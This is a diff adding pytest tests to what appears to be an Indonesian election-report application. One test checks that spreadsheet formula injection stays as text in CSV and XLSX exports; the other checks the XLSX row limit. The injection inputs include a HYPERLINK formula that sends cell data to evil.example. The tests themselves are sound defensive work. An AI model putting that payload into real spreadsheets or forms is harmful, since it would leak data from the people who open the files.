@@ -115,3 +115,48 @@ def test_the_weekly_summary_is_made_and_mailed_once_per_office_and_week(personas
     assert summary.document.open("rb").read().startswith(b"%PDF")
     assert mail.outbox[0].to == [head.email]
     assert mail.outbox[0].attachments[0][2] == "application/pdf"
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
+)
+def test_a_formula_typed_by_a_reporter_stays_text_in_csv_and_xlsx(as_user, client, form_data, name):
+    from netral.intake.models import Report
+
+    assert client.post("/lapor/", {**form_data, "accused_name": name}).status_code == 200
+    name = Report.objects.get().accused_name  # as stored (the form trims whitespace)
+    assert name.startswith(("=", "+", "-", "@"))
+    client = as_user("bawaslu.ri")
+    for fmt in ("csv", "xlsx"):
+        job = _run(client, "reports", fmt)
+        job.refresh_from_db()
+        assert job.status == "done", job.error
+        content = job.file.open("rb").read()
+        if fmt == "csv":
+            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+            assert {r[5] for r in rows[1:]} == {"'" + name}
+        else:
+            sheet = load_workbook(io.BytesIO(content)).active
+            cells = [row[5] for row in sheet.iter_rows(min_row=2)]
+            assert cells
+            assert all(c.data_type == "s" and c.value == name for c in cells)
+
+
+def test_xlsx_stops_at_its_row_limit_with_a_clear_message(as_user, monkeypatch):
+    from netral.insights import exports
+
+    seed_cases()
+    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
+    client = as_user("analis.bkn")
+    job = _run(client, "cases", "xlsx")
+    job.refresh_from_db()
+    assert job.status == "failed"
+    assert "CSV" in job.error
+    import netral.core.sheets
+
+    monkeypatch.setattr(netral.core.sheets, "XLSX_MAX_ROWS", 3)
+    refused = client.post(
+        "/api/v1/exports", {"source": "cases", "format": "xlsx"}, content_type="application/json"
+    )
+    assert refused.status_code == 422
+    assert refused.json()["errors"][0]["field"] == "format"
